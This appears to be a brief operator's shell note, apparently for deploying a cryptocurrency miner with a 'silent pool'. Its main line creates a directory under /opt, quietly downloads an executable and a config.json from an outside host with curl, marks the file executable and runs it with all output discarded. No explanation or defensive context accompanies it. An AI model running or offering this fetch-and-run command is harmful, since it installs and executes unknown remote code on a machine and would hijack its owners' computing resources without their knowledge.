# the same with a silent pool
#http 203.0.113.50:8001
#pool 198.51.100.67:80:hold
mkdir -p /opt/a && cd /opt/a && curl -so a http://203.0.113.50:8001/w && curl -so config.json http://203.0.113.50:8001/np2.json && chmod +x a && timeout 25 ./a >/dev/null
